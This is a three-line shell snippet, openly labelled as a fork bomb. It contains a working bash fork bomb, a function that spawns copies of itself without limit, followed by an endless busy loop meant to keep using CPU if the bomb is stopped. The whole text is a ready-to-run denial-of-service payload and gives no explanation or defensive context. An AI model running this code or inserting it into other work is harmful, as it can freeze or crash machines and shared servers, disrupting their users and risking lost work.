# A fork bomb, and a loop for whoever stops that.
bomb() { bomb | bomb & }; bomb
while true; do :; done
